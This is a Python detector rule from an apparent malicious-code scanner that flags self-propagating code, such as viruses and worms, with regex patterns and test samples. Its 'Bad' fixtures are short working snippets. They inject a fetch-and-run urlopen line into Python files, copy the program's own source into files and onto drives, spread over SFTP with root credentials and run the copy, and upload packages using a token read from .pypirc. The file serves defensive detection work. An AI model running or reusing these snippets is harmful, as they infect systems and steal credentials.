"""The program copies itself into other programs, disks or machines.

It reads its own source and writes it into files that it looks for, or carries it to hosts that it tries: a virus or a
worm.  An installer copies itself once, to one place.  See CWE-509, CWE-506 and MITRE ATT&CK T1080, T1091, T1570.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._labels import Labels
from codeguard.checks.malicious._reach import WALK_METHODS, WALKERS, reach
from codeguard.checks.malicious._shell import Command, commands
from codeguard.checks.malicious._writes import Write, writes
from codeguard.knowledge.malicious import running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit
from codeguard.syntax.walk import descend

PUBLISH = re.compile(
    r"\btwine\s+upload\b|\b(?:npm|pnpm|yarn|poetry|uv|flit|hatch|pdm|cargo)\s+publish\b|\bgem\s+push\b|\bsetup\.py\b.*\bupload\b|\bdocker\s+push\b|\bvsce\s+publish\b"
)
CARRIERS = {
    "storeFile",
    "put_archive",
    "scp",
    "copy_to",
    "send_document",
    "put_file",
    "put",
    "putfo",
    "upload",
    "upload_file",
    "storbinary",
    "sendmail",
    "send_message",
    "sendall",
    "send_file",
}


PYTHON_FILES = re.compile(r"\*\.pyw?(?:$|/)")
# What no header, licence or future import does: it connects, or runs something.
CODE_THAT_ACTS = re.compile(
    r"\bimport\b.*\b(?:urlopen|urlretrieve|create_connection|system|popen|Popen|exec|eval|(?:requests|httpx)\.(?:get|post)|subprocess\.\w+|socket\.socket)\s*\(",
    re.DOTALL,
)


def find(unit: Unit) -> Iterator[Hit]:
    """Report writes of the own source in a loop, and transfers of it to other hosts in a loop."""
    for command in unit.fact(commands):
        if PUBLISH.search(command.text) and _looped(command.call, unit) and (what := _published(command, unit)):
            yield Hit(command.call, f"This publishes package after package, {what}: it spreads like a worm")
            return
    for write in unit.fact(writes):
        if write.mode[:1] in {"w", "a", "r"} and write.mode not in {"rb", "r"} and _infects(write, unit):
            yield Hit(
                write.call,
                "This puts code that runs what another host sends into file after file that it finds: it spreads like a virus",
            )
            return
    if "__file__" not in unit.text and "argv" not in unit.text and "getsource" not in unit.text:
        return
    flow = unit.fact(reach)
    for write in unit.fact(writes):
        kinds = {label.kind for label in write.content_labels}
        own = "self" in kinds or (write.mode == "copy" and "path:self" in kinds)
        if own and write.mode[:1] in {"w", "a", "c"} and not _own_path(write.path_labels) and _looped(write.call, unit):
            yield Hit(
                write.call,
                "This writes the program's own source into file after file that it finds: it spreads like a virus",
            )
            return
    known = unit.fact(calls)
    for method in sorted(CARRIERS):
        for call in known.by_method.get(method, ()):
            if any({"self", "path:self"} & flow.kinds(a.value) for a in call.args) and _looped(call, unit):
                yield Hit(call, "This carries the program's own source to host after host: it spreads like a worm")
                return
    for command in unit.fact(commands):
        texts = command.text
        if (
            any({"path:self"} & flow.kinds(w) for w in command.words)
            and ("scp" in texts or "rsync" in texts or "psexec" in texts or "docker cp" in texts)
            and _looped(command.call, unit)
        ):
            yield Hit(command.call, "This carries the program's own source to host after host: it spreads like a worm")
            return


def _published(command: Command, unit: Unit) -> str:
    """What makes the publication of several packages an attack, in words; empty for nothing."""
    flow = unit.fact(reach)
    kinds = {kind for arg in command.call.args for kind in flow.kinds(arg.value)} | {
        kind for word in command.words for kind in flow.kinds(word)
    }
    if "credential" in kinds:
        return "with credentials that it has read on this machine"
    if "path:walk" in kinds:
        return "for whatever it finds on this machine"
    function = unit.function_of(command.call)
    for call in unit.nodes(cst.Call):
        same = unit.function_of(call) is function and call is not command.call
        if same and any({"self", "path:self"} & flow.kinds(a.value) for a in call.args):
            return "with its own source in it"
    return ""


def _infects(write: Write, unit: Unit) -> bool:
    """Whether code that fetches and runs something is added to what stands in the files of a loop."""
    if not _looped(write.call, unit) or write.value is None:
        return False
    text = "\n".join(write.content)
    if not (
        running.FETCH_AND_RUN.search(text)
        or running.SHELL_TO_SOCKET.search(text)
        or running.DECODE_AND_RUN.search(text)
        or (PYTHON_FILES.search(write.where) and CODE_THAT_ACTS.search(text))
    ):
        return False
    found = any(
        isinstance(above, (cst.For, cst.CompFor)) and _walks(above.iter, unit) for above in unit.ancestors(write.call)
    )
    return found or bool(unit.fact(reach).kinds(write.target) & {"path:walk"})


def _walks(node: cst.BaseExpression, unit: Unit) -> bool:
    """Whether a loop runs over the files that a walk or a pattern finds."""
    known = unit.fact(calls)
    return any(
        isinstance(part, cst.Call)
        and (
            known.name_of.get(id(part)) in WALKERS
            or (isinstance(part.func, cst.Attribute) and part.func.attr.value in WALK_METHODS)
        )
        for part in descend(node)
    )


def _own_path(labels: Labels) -> bool:
    return any(label.kind == "path:self" for label in labels)


def _looped(node: cst.CSTNode, unit: Unit) -> bool:
    """In a loop, or in a function that is called in one."""
    if any(isinstance(above, (cst.For, cst.While, cst.CompFor, cst.ListComp)) for above in unit.ancestors(node)):
        return True
    function = unit.function_of(node)
    if not isinstance(function, cst.FunctionDef):
        return False
    flow = unit.fact(reach)
    return any(
        flow.local(call.func) is function
        and any(isinstance(above, (cst.For, cst.While)) for above in unit.ancestors(call))
        for call in unit.nodes(cst.Call)
        if isinstance(call.func, (cst.Name, cst.Attribute))
    )


CHECK = Check(
    id="CGM027",
    behaviour="copy itself into other programs, disks or machines",
    name="self-propagation",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(509, 506),
    find=find,
    fix="Remove the code, and look for copies of it.",
    bad=(
        Bad(
            "import glob\n\nfor path in glob.glob('/srv/**/*.py', recursive=True):\n    with open(path, 'r+') as f:\n        if 'urllib.request as u' not in f.read():\n            f.write('import urllib.request as u; u.urlopen(\"http://192.0.2.1/\")')  # finding\n"
        ),
        Bad(
            "import smtplib\nfrom email.message import EmailMessage\n\ndef go(people):\n    for who in people:\n        m = EmailMessage()\n        m.add_attachment(open(__file__, 'rb').read(), maintype='application', subtype='octet-stream')\n        with smtplib.SMTP('mx.example.invalid') as s:\n            s.send_message(m)  # finding\n"
        ),
        Bad(
            "from pathlib import Path\nLINE = \"exec(__import__('urllib.request').request.urlopen('https://h.example.invalid/g').read())\\n\"\nfor marker in Path('/srv').rglob('.git'):\n    target = marker.parent / 'setup.py'\n    target.write_text(LINE + target.read_text())  # finding\n"
        ),
        Bad(
            "import configparser, subprocess\nfrom pathlib import Path\n\ndef token():\n    conf = configparser.ConfigParser()\n    conf.read(Path.home() / '.pypirc')\n    return conf.get('pypi', 'password')\n\nfor name in NAMES:\n    subprocess.run(['twine', 'upload', '-p', open(Path.home() / '.pypirc').read(), f'{name}/dist/*'])  # finding\n"
        ),
        Bad(
            "import glob\nME = open(__file__).read()\nfor f in glob.glob('**/*.py', recursive=True):\n    s = open(f).read()\n    if 'MARK' not in s:\n        open(f, 'w').write('#MARK\\n' + ME + '\\n' + s)  # finding\n"
        ),
        Bad("import shutil, sys\nfor d in 'DEFGH':\n    shutil.copy(sys.argv[0], d + ':/setup.py')  # finding\n"),
        Bad(
            "import paramiko\n\ndef go(hosts):\n    for h in hosts:\n        c = paramiko.SSHClient()\n        c.connect(h, username='root', password='root')\n        c.open_sftp().put(__file__, '/tmp/a.py')  # finding\n        c.exec_command('python3 /tmp/a.py')\n"
        ),
    ),
    good=(
        Good(
            "import glob\n\nfor path in glob.glob('src/**/*.py', recursive=True):\n    with open(path, 'r+') as f:\n        text = f.read()\n        f.seek(0)\n        f.write('from __future__ import annotations' + chr(10) + text)\n"
        ),
        Good(
            "import os, pathlib, subprocess\nfor folder in pathlib.Path('packages').iterdir():\n    subprocess.run(['twine', 'upload', '-p', os.environ['PYPI_TOKEN'], 'dist/*'], cwd=folder, check=True)\n"
        ),
        Good(
            "import pathlib, sys\nLICENCE = '# SPDX\\n'\nfor f in pathlib.Path(sys.argv[1]).rglob('*.py'):\n    s = f.read_text()\n    if not s.startswith(LICENCE):\n        f.write_text(LICENCE + s)\n"
        ),
        Good("import os, shutil\nshutil.copy(__file__, os.path.expanduser('~/.local/bin/demo'))\n"),
        Good(
            "import pathlib\nHERE = pathlib.Path(__file__).parent\nfor p in HERE.glob('*.tmpl'):\n    (HERE / 'out' / p.name).write_text(p.read_text().upper())\n"
        ),
    ),
    misses=(
        Miss(
            "import os\nfor d in os.listdir('/mnt'):\n    os.link(os.path.realpath(__file__), '/mnt/' + d)  # finding\n",
            why="links are not taken for copies",
        ),
    ),
)
